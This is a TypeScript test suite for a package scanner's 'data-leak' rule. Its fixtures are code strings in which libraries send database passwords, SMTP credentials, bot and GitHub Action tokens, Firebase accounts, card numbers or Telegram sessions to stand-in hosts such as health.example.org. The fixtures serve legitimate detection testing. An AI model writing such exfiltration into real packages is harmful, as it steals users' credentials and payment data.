import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what libraries get to log in or to pay with. */
const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more })[0]?.severity ?? 'nothing';
const tell = (what: string): string => `fetch("https://health.example.org/up", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {})`;

test('bad: what a library logs in with also goes to a server, as a whole, in parts and by other names', () => {
  for (const code of [
    `const mysql = require("mysql2/promise"); exports.pool = (options) => { const pool = mysql.createPool(options); ${tell('options')}; return pool }`,
    `const mysql_1 = __importDefault(require("mysql2")); exports.Data = class { constructor(given) { this.given = given; this.pool = mysql_1.default.createPool(Object.assign({ max: 5 }, given)) } up() { ${tell('{ p: this.given.password }')} } }`,
    `import { Pool } from "pg"; export const pool = (where) => { ${tell('[where].join()')}; return new Pool({ connectionString: where }) }`,
    `import { createTransport } from "nodemailer"; export const mail = ({ host, user, pass }) => { ${tell('{ pass }')}; return createTransport({ host, auth: { user, pass } }) }`,
    `const { Client } = require("discord.js"); exports.Bot = class { constructor(given) { this.key = given.key; this.client = new Client({}) } async start() { await this.client.login(this.key); ${tell('{ k: this.key }')} } }`,
    'import { createClient } from "redis"; export const open = (given) => { fetch("https://health.example.org/?" + new URLSearchParams({ o: JSON.stringify(given) })); return createClient({ ...given }) }',
    'import { createClient } from "redis"; import https from "node:https"; export const open = (given) => { const r = https.request({ host: "health.example.org", method: "POST" }); r.end(given.password); return createClient(given) }',
    `const admin = require("firebase-admin"); exports.init = (account) => { ${tell('account')}; return admin.initializeApp({ credential: admin.credential.cert(account) }) }`,
    `const github = require("@actions/github"); const core = require("@actions/core"); const given = core.getInput("token"); github.getOctokit(given); ${tell('{ given }')}`,
  ]) assert.equal(worst(code), 'high', code);
});

test('bad: a card goes elsewhere; good: to the service alone, its last numbers, and what asks who gave it out', () => {
  const pay = (also: string): string => `const Stripe = require("stripe"); exports.charge = async (key, { number, cvc, name }) => { const stripe = new Stripe(key); const made = await stripe.tokens.create({ card: { number, cvc } }); ${also}; return stripe.charges.create({ source: made.id }) }`;
  assert.equal(worst(pay(tell('{ number, name }'))), 'high');
  for (const also of [tell('{ name }'), tell('{ last: number.slice(-4), first: number.slice(0, 6) }'), tell('{ shown: number.replace(/\\d(?=\\d{4})/g, "*") }'), 'await fetch("https://api.stripe.com/v1/tokens", { method: "POST", body: JSON.stringify({ number, cvc }) })']) assert.equal(worst(pay(also)), 'nothing', also);
  assert.equal(worst('const axios = require("axios"); exports.token = ({ number, cvv }) => axios.post("https://api.pay.example.org/tokens", { card: { number, cvv } })'), 'nothing');
});

test('bad: by way of another script; good: what is no login', () => {
  const report = { 'report.js': 'exports.report = (event, data) => fetch("https://metrics.example.org/e", { method: "POST", body: JSON.stringify({ event, data }) })' };
  const open = (handed: string): string => `const Redis = require("ioredis"); const { report } = require("./report"); exports.open = (options) => { report("open", ${handed}); return new Redis(options) }`;
  assert.equal(worst(open('options'), report), 'high');
  for (const handed of ['options.db', 'Date.now()', '{ host: options.host }']) assert.equal(worst(open(handed), report), 'nothing', handed);
});

test('good: counts, places, the service itself, servers that callers name, scripts of the package, and clients of many services', () => {
  for (const code of [
    `import { Pool } from "pg"; export const pool = (options) => { const pool = new Pool(options); ${tell('{ all: pool.totalCount, db: options.database, at: options.host }')}; return pool }`,
    'import { Octokit } from "@octokit/rest"; export const open = (key) => { fetch("https://api.github.com/graphql", { headers: { authorization: key } }); return new Octokit({ auth: key }) }',
    'import { WebClient } from "@slack/web-api"; export const open = (key) => { fetch("https://slack.com/api/files.upload", { method: "POST", headers: { Authorization: key } }); return new WebClient(key) }',
    'import { createClient } from "@supabase/supabase-js"; export const open = (url, key) => { fetch(`${url}/health`, { headers: { apikey: key } }); return createClient(url, key) }',
    'import { Client } from "@elastic/elasticsearch"; const NODE = "https://find.example.org"; export const open = (key) => { fetch("https://find.example.org/up", { headers: { Authorization: key } }); return new Client({ node: NODE, auth: { apiKey: key } }) }',
    'import { Client } from "./client.js"; export const open = (options) => { fetch("https://api.example.org/session", { method: "POST", body: JSON.stringify(options) }); return new Client(options) }',
    'import mailer from "nodemailer"; export const sender = (options) => options.smtp ? mailer.createTransport(options) : (mail) => fetch("https://api.mails.example.org/send", { method: "POST", headers: { Authorization: options.apiKey }, body: mail.text })',
    'import { createHash } from "node:crypto"; import { createClient } from "redis"; export const open = (given) => { fetch("https://health.example.org/?k=" + createHash("sha256").update(given.password).digest("hex")); return createClient(given) }',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: an input of an action that is the key of a registry, and the session of a chat as text; good: one that may be of any service', () => {
  const action = (name: string, to: string): string => `import * as core from "@actions/core"; const given = core.getInput("${name}"); await fetch("https://${to}/x", { method: "POST", headers: { authorization: given } })`;
  assert.equal(worst(action('npm-token', 'notes.example.org')), 'high');
  assert.equal(worst(action('github_token', 'notes.example.org')), 'high');
  assert.equal(worst(action('github_token', 'api.github.com')), 'nothing');
  for (const name of ['token', 'service-key']) assert.equal(worst(action(name, 'covers.example.org')), 'nothing', name);
  const chat = (to: string): string => `const { TelegramClient } = require("telegram"); const { StringSession } = require("telegram/sessions"); exports.open = async (given) => { const session = new StringSession(""); const client = new TelegramClient(session, given.id, given.hash, {}); await client.start(given); fetch(${to}, { method: "POST", body: client.session.save() }); return client }`;
  assert.equal(worst(chat('"https://s.example.org"')), 'high');
  assert.equal(worst(chat('given.store')), 'nothing');
});
